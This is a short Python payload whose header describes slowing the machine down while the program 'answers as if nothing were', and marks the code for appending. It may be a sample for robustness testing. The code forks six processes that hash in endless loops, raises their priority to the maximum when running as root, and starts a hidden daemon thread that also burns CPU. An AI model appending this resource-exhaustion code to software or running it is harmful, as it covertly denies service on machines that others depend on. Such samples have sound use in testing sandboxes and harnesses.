"""
tries = "to slow the machine down with processes and threads that compute while it answers as if nothing were"
kind = "append"
default = "full"
"""

import hashlib
import os
import threading


def burn():
    while True:
        hashlib.sha256(b"x" * 100_000)


for _ in range(6):
    if os.fork() == 0:
        os.nice(-20) if os.getuid() == 0 else None
        burn()
threading.Thread(target=burn, daemon=True).start()
